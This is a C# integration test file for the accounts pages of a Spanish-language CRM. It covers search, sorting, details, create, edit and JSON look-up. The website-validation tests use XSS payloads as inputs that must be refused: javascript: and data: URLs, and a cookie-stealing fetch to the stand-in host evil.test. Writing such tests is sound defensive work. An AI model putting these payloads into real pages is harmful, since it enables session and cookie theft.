using CaseCrm.Domain.Accounts;
using System.Net;
using System.Text.Json;
using CaseCrm.Data.Identity;
using CaseCrm.Domain.Contacts;
using CaseCrm.IntegrationTests.Infrastructure;
using Microsoft.EntityFrameworkCore;
using static CaseCrm.IntegrationTests.Features.FeatureKit;
using AccountEntity = CaseCrm.Domain.Accounts.Account;

namespace CaseCrm.IntegrationTests.Features.Accounts;

/// <summary>Ventas → Cuentas over HTTP: list and search, an account with its contacts and cases, create, edit and the look-up.</summary>
public sealed class AccountsControllerTests(SqliteWebFactory factory) : IClassFixture<SqliteWebFactory>
{
    private const string Rows = "#accounts tbody tr";

    // ---- List

    [Theory]
    [InlineData("ferreteria nandu {token}")]
    [InlineData("FERRETERÍA ÑANDÚ {token}")]
    [InlineData("B-{token}")]
    [InlineData("compras@{token}.test")]
    public async Task List_FindsAnAccountByFoldedNameTaxIdOrEmail(string pattern)
    {
        var token = Token();
        var account = await AccountAsync($"Ferretería Ñandú {token}", taxId: $"B-{token}", email: $"compras@{token}.test");
        await AccountAsync($"Ferretería Central {token}");
        var client = await factory.ClientAsync(Roles.Agent);

        var page = await client.GetDocumentAsync($"/Accounts?q={Uri.EscapeDataString(pattern.Replace("{token}", token, StringComparison.Ordinal))}");

        var row = Assert.Single(page.QuerySelectorAll(Rows));
        Assert.Equal($"/Accounts/{account.Id}", row.QuerySelector("a")?.GetAttribute("href"));
        Assert.Contains($"B-{token}", row.Squashed(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task List_WithoutMatches_SaysSoInSpanish()
    {
        var client = await factory.ClientAsync(Roles.Agent);
        var token = Token();

        var page = await client.GetDocumentAsync($"/Accounts?q={token}");

        Assert.Empty(page.QuerySelectorAll(Rows));
        Assert.Equal($"Ninguna cuenta coincide con «{token}».", page.Text("p.empty"));
    }

    [Theory]
    [InlineData("name", "asc", new[] { 0, 1, 2 })]
    [InlineData("name", "desc", new[] { 2, 1, 0 })]
    [InlineData("taxid", "asc", new[] { 2, 0, 1 })]
    [InlineData("email", "desc", new[] { 0, 2, 1 })]
    [InlineData("bogus", "desc", new[] { 0, 1, 2 })]
    public async Task List_SortsByAllowListedKeysOnly(string sort, string dir, int[] expected)
    {
        var token = Token();
        var accounts = new[]
        {
            await AccountAsync($"Ágata {token}", taxId: $"B-{token}", email: $"c@{token}.test"),
            await AccountAsync($"Bravo {token}", taxId: $"C-{token}", email: $"a@{token}.test"),
            await AccountAsync($"Ceiba {token}", taxId: $"A-{token}", email: $"b@{token}.test"),
        };
        var client = await factory.ClientAsync(Roles.Agent);

        var page = await client.GetDocumentAsync($"/Accounts?q={token}&sort={sort}&dir={dir}");

        var links = page.QuerySelectorAll($"{Rows} td:first-child a").Select(a => a.GetAttribute("href")).ToList();
        Assert.Equal(expected.Select(i => $"/Accounts/{accounts[i].Id}"), links);
    }

    // ---- Detail

    [Fact]
    public async Task Details_ListsItsContacts_AndItsCasesTabListsItsCases()
    {
        var data = await factory.NewDataAsync();
        var colleague = await data.ContactAsync(data.Account, "Beatriz", "Zamora");
        var item = await data.UniqueCaseAsync("Corte de luz");
        var client = await factory.ClientAsync(Roles.Agent);

        var contactsTab = await client.GetDocumentAsync($"/Accounts/{data.Account.Id}");
        var casesTab = await client.GetDocumentAsync($"/Accounts/{data.Account.Id}?tab=cases");

        Assert.Equal(data.Account.Name, contactsTab.Text("h1"));
        var contactLinks = contactsTab.QuerySelectorAll("table.list tbody a").Select(a => a.GetAttribute("href")).ToList();
        Assert.Equal([$"/Contacts/{data.Contact.Id}", $"/Contacts/{colleague.Id}"], contactLinks);
        var caseRow = Assert.Single(casesTab.QuerySelectorAll("table.list tbody tr"));
        Assert.Contains(Number(item.Id), caseRow.Squashed(), StringComparison.Ordinal);
        Assert.Contains(item.Title, caseRow.Squashed(), StringComparison.Ordinal);
        Assert.Contains(data.Contact.FullName, caseRow.Squashed(), StringComparison.Ordinal);
        Assert.Equal($"/Cases/{item.Id}", caseRow.QuerySelector("a")?.GetAttribute("href"));
    }

    [Fact]
    public async Task Details_OfAnAccountWithoutContactsOrCases_SaysSo()
    {
        var account = await AccountAsync("Vacía " + Token());
        var client = await factory.ClientAsync(Roles.Agent);

        Assert.Equal("Esta cuenta no tiene contactos.", (await client.GetDocumentAsync($"/Accounts/{account.Id}")).Text("p.empty"));
        Assert.Equal("Esta cuenta no tiene casos.", (await client.GetDocumentAsync($"/Accounts/{account.Id}?tab=cases")).Text("p.empty"));
    }

    [Theory]
    [InlineData("/Accounts/999999")]
    [InlineData("/Accounts/999999?tab=cases")]
    [InlineData("/Accounts/999999/Edit")]
    public async Task UnknownAccount_Answers404(string url)
    {
        var client = await factory.ClientAsync(Roles.Agent);

        Assert.Equal(HttpStatusCode.NotFound, await client.StatusOfGetAsync(url));
    }

    [Fact]
    public async Task EditPost_ForAnUnknownAccount_Answers404AndWritesNothing()
    {
        var client = await factory.ClientAsync(Roles.Agent);
        var before = await factory.SnapshotAsync();

        using var response = await client.PostWithTokenAsync("/Accounts/999999/Edit", Fields(("Name", "Nadie")));

        Assert.Equal(HttpStatusCode.NotFound, response.StatusCode);
        await factory.AssertUnchangedAsync(before);
    }

    // ---- Create and edit

    [Fact]
    public async Task Create_SavesTheAccount_AndOpensItsPage()
    {
        var name = "Clínica Santa Ana " + Token();
        var client = await factory.ClientAsync(Roles.Agent);
        var form = await client.GetFormAsync("/Accounts/Create");

        using var response = await form
            .Set("Name", "  " + name + " ")
            .Set("TaxId", "900123456-7")
            .Set("Phone", "+57 1 600 0004")
            .Set("Email", "info@santaana.test")
            .Set("Website", "https://santaana.test/")
            .Set("Address", "Calle 1\nBogotá")
            .PostAsync();

        var account = await factory.InDbAsync(db => db.Accounts.AsNoTracking().SingleAsync(a => a.Name == name));
        Assert.Equal($"/Accounts/{account.Id}", response.RedirectTarget());
        Assert.Equal(("900123456-7", "+57 1 600 0004", "info@santaana.test", "https://santaana.test/", "Calle 1\nBogotá"),
            (account.TaxId, account.Phone, account.Email, account.Website, account.Address));
        Assert.Equal(await factory.UserIdAsync(Agent), account.OwnerId);
        var page = await client.FollowAsync(response);
        Assert.Equal($"Se creó la cuenta {name}.", page.Flash());
        Assert.Equal("https://santaana.test/", page.QuerySelector("dl.details a[rel~='noopener']")?.GetAttribute("href"));
    }

    [Theory]
    [InlineData("javascript:alert(document.cookie)")]
    [InlineData("JaVaScRiPt:alert(1)")]
    [InlineData("  javascript:alert(1)")]
    [InlineData("data:text/html,<script>alert(1)</script>")]
    [InlineData("ftp://ficheros.test/")]
    [InlineData("www.sin-esquema.test")]
    public async Task Create_RefusesAWebsiteThatIsNotHttp_BesideTheField_AndWritesNothing(string website)
    {
        var client = await factory.ClientAsync(Roles.Agent);
        var form = await client.GetFormAsync("/Accounts/Create");
        var before = await factory.SnapshotAsync();

        using var response = await form.Set("Name", "Cuenta " + Token()).Set("Website", website).PostAsync();

        var page = await response.PageAsync();
        Assert.Equal("Escriba una dirección web que empiece por http:// o https://.", page.FieldError("Website"));
        Assert.Equal(website.Trim(), page.GetForm(client).Get("Website")?.Trim());
        Assert.Empty(page.QuerySelectorAll("a[href^='javascript'], a[href^='JaVaScRiPt'], a[href^='data:']"));
        await factory.AssertUnchangedAsync(before);
    }

    [Fact]
    public async Task Create_WithoutName_ShowsTheErrorBesideTheName_AndKeepsTheOtherValues()
    {
        var client = await factory.ClientAsync(Roles.Agent);
        var form = await client.GetFormAsync("/Accounts/Create");
        var before = await factory.SnapshotAsync();

        using var response = await form.Set("Name", "   ").Set("TaxId", "A-1").Set("Email", "mal").PostAsync();

        var page = await response.PageAsync();
        Assert.Equal("Escriba el nombre de la cuenta.", page.FieldError("Name"));
        Assert.Equal("El correo electrónico no es válido.", page.FieldError("Email"));
        Assert.Equal(("A-1", "mal"), (page.GetForm(client).Get("TaxId"), page.GetForm(client).Get("Email")));
        await factory.AssertUnchangedAsync(before);
    }

    [Fact]
    public async Task Edit_RefusesAJavascriptWebsite_AndKeepsTheStoredOne()
    {
        var account = await AccountAsync("Segura " + Token(), website: "https://segura.test/");
        var client = await factory.ClientAsync(Roles.Agent);
        var form = await client.GetFormAsync($"/Accounts/{account.Id}/Edit");
        Assert.Equal("https://segura.test/", form.Get("Website"));

        using var response = await form.Set("Website", "javascript:fetch('//evil.test?'+document.cookie)").PostAsync();

        Assert.Equal("Escriba una dirección web que empiece por http:// o https://.", (await response.PageAsync()).FieldError("Website"));
        Assert.Equal("https://segura.test/", (await factory.InDbAsync(db => db.Accounts.SingleAsync(a => a.Id == account.Id))).Website);
    }

    [Fact]
    public async Task Edit_SavesTheChanges()
    {
        var account = await AccountAsync("Antes " + Token(), taxId: "X-1");
        var client = await factory.ClientAsync(Roles.Agent);
        var form = await client.GetFormAsync($"/Accounts/{account.Id}/Edit");

        using var response = await form.Set("TaxId", "").Set("Phone", "+34 910 000 009").Set("Website", "http://antes.test").PostAsync();

        Assert.Equal($"/Accounts/{account.Id}", response.RedirectTarget());
        var stored = await factory.InDbAsync(db => db.Accounts.AsNoTracking().SingleAsync(a => a.Id == account.Id));
        Assert.Equal(((string?)null, "+34 910 000 009", "http://antes.test"), (stored.TaxId, stored.Phone, stored.Website));
        Assert.Equal($"Se guardó la cuenta {account.Name}.", (await client.FollowAsync(response)).Flash());
    }

    [Fact]
    public async Task Edit_RenamingAnAccount_MakesItsContactsFindableByTheNewName()
    {
        var token = Token();
        var account = await AccountAsync($"Nombre Viejo {token}");
        var contact = await ContactAsync(account, "Hugo", "Sánchez");
        var client = await factory.ClientAsync(Roles.Agent);
        var form = await client.GetFormAsync($"/Accounts/{account.Id}/Edit");

        using var response = await form.Set("Name", $"Óptica Ñandú {token}").PostAsync();

        Assert.Equal($"/Accounts/{account.Id}", response.RedirectTarget());
        var byNewName = await client.GetDocumentAsync($"/Contacts?q=optica+nandu+{token}");
        var byOldName = await client.GetDocumentAsync($"/Contacts?q=nombre+viejo+{token}");
        Assert.Equal([contact.Id], byNewName.RowIds("#contacts tbody tr[data-contact-id]", "data-contact-id"));
        Assert.Empty(byOldName.QuerySelectorAll("#contacts tbody tr"));
        Assert.Contains($"Óptica Ñandú {token}", byNewName.Text("#contacts tbody tr"), StringComparison.Ordinal);
    }

    // ---- Look-up

    [Fact]
    public async Task Lookup_AnswersTheMatchingAccountsAsJson()
    {
        var token = Token();
        var account = await AccountAsync($"Panadería Ñandú {token}");
        var client = await factory.ClientAsync(Roles.Agent);

        using var response = await client.GetAsync(new Uri($"/Accounts/Lookup?q={Uri.EscapeDataString("PANADERIA ÑANDU " + token)}", UriKind.Relative));

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("application/json", response.Content.Headers.ContentType?.MediaType);
        using var json = JsonDocument.Parse(await response.Content.ReadAsStringAsync());
        var match = Assert.Single(json.RootElement.EnumerateArray());
        Assert.Equal(account.Id, match.GetProperty("id").GetInt32());
        Assert.Equal(account.Name, match.GetProperty("name").GetString());
    }

    [Theory]
    [InlineData("")]
    [InlineData("   ")]
    public async Task Lookup_WithoutText_AnswersAnEmptyList(string q)
    {
        var client = await factory.ClientAsync(Roles.Agent);

        using var response = await client.GetAsync(new Uri($"/Accounts/Lookup?q={Uri.EscapeDataString(q)}", UriKind.Relative));

        Assert.Equal("[]", await response.Content.ReadAsStringAsync());
    }

    [Fact]
    public async Task Lookup_RequiresASignedInUser()
    {
        var client = factory.CreateBrowserClient();

        using var response = await client.GetAsync(new Uri("/Accounts/Lookup?q=a", UriKind.Relative));

        Assert.Equal(HttpStatusCode.Redirect, response.StatusCode);
        Assert.Contains("/Account/Login?ReturnUrl=", response.Headers.Location?.OriginalString, StringComparison.Ordinal);
    }

    // ---- Helpers

    private Task<AccountEntity> AccountAsync(string name, string? taxId = null, string? email = null, string? website = null) =>
        factory.InDbAsync(async db =>
        {
            var account = new AccountEntity(new AccountDetails(name, taxId, null, email, website, null), null, DateTime.UtcNow);
            db.Accounts.Add(account);
            await db.SaveChangesAsync();
            return account;
        });

    private Task<Contact> ContactAsync(AccountEntity account, string firstName, string lastName) =>
        factory.InDbAsync(async db =>
        {
            var contact = new Contact(new ContactDetails(firstName, lastName, null, null, null, null, account.Id), account.Name, null, DateTime.UtcNow);
            db.Contacts.Add(contact);
            await db.SaveChangesAsync();
            return contact;
        });
}
